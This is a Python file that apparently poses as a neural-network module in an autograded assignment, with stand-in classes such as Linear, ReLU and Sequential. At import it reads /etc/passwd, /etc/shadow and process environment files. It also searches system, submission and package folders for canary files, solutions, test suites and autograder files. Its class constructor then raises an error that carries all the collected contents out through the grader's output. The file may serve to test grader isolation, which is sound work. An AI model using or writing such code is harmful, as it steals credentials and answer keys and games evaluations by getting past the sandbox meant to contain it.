"""Reads what it should not: accounts, other submissions, suites and solutions, other processes, all names with `canary`."""

import os
import site
import sys

FILES = ["/etc/passwd", "/etc/shadow", "/proc/1/environ", "/proc/self/environ", "/proc/1/cmdline"]
FOLDERS = ["/", "/etc", "/home", "/root", "/proc", "/sys", "/run", "/var", "/opt", "/srv", "/mnt", "/dev", "/tmp", "/work"]
FOLDERS += ["/submission", "/submission/..", "/worker", "/site", os.path.dirname(__file__) + "/../.."]
FOLDERS += [*sys.path, *site.getsitepackages(), "/usr/lib/python3/dist-packages"]
WANTED = ("canary", "test_a03", "assignment.toml", "misconceptions", "autograder", "solutions")


def read(path):
    try:
        with open(path, errors="replace") as file:
            return file.read(2000)
    except OSError:
        return None


def names(folder):
    try:
        return os.listdir(folder)
    except OSError:
        return []


found = {path: content for path in FILES if (content := read(path))}
for folder in FOLDERS:
    for name in names(folder):
        if any(word in name for word in WANTED):
            found[f"{folder}/{name}"] = read(f"{folder}/{name}")


class Linear:
    def __init__(self, *parameters):
        raise LookupError(f"found {list(found)} {found}")


ReLU = Sigmoid = BCEWithLogits = Sequential = Linear
